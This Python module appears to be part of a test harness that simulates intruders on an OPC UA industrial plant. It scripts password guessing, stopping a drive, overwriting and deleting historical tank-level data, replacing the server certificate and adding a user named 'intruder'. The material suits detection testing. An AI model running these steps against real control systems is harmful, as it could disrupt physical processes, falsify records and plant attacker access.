"""What people do on OPC UA in the plant beyond reading: intruders that change and guess."""

from __future__ import annotations

import asyncio
import datetime

from asyncua import ua
from asyncua.client.client import Client

from compose.plant.opcua_client import (
    Login,
    node,
)
from compose.plant.opcua_names import own, standard
from compose.plant.proofs_opcua import attempt, do_nothing


async def guess_passwords(count: int) -> None:
    """Try `count` passwords of the engineer."""
    for number in range(count):
        await attempt(Login("stranger", "engineer", f"guess-{number}"), do_nothing)
        await asyncio.sleep(0.1)


async def stop_and_start(client: Client) -> None:
    """Stop the drive for a second."""
    for name in ("Stop", "Start"):
        await node(client, "Drive").call_method(own(f"Drive.{name}"), "stranger")
        await asyncio.sleep(1)


async def rewrite_history(client: Client) -> None:
    """Replace two values of the level and delete ten seconds."""
    now = datetime.datetime.now(datetime.UTC)
    level = own("Tank.Level")
    stamp = ua.DateTime.fromtimestamp(now.timestamp(), datetime.UTC)
    values = [ua.DataValue(ua.Variant(v, ua.VariantType.Double), SourceTimestamp=stamp) for v in (1999.0, 2000.5)]
    update = ua.UpdateDataDetails(NodeId=level, UpdateValues=values)
    update.PerformInsertReplace = ua.PerformUpdateType.Replace
    remove = ua.DeleteRawModifiedDetails(NodeId=level, IsDeleteModified=False)
    remove.StartTime, remove.EndTime = now - datetime.timedelta(seconds=10), now
    for details in (update, remove):
        parameters = ua.HistoryUpdateParameters()
        parameters.HistoryUpdateDetails = [details]
        await client.uaclient.history_update(parameters)


async def change_trust(client: Client) -> None:
    """Call the methods that change who is trusted (OPC 10000-12, 7.10; 10000-18, 5.2)."""
    server, trust, users = standard(12637), standard(12642), standard(24290)
    calls = [
        (server, standard(13737), [ua.Variant(b"\x30\x82", ua.VariantType.ByteString)]),  # UpdateCertificate
        (server, standard(12740), []),  # ApplyChanges
        (trust, standard(12647), [ua.Variant(6, ua.VariantType.Byte)]),  # Open for writing
        (users, standard(24304), [ua.Variant("intruder", ua.VariantType.String)]),  # AddUser
    ]
    for owner, method, arguments in calls:
        request = ua.CallMethodRequest(ObjectId=owner, MethodId=method, InputArguments=arguments)
        await client.uaclient.call([request])
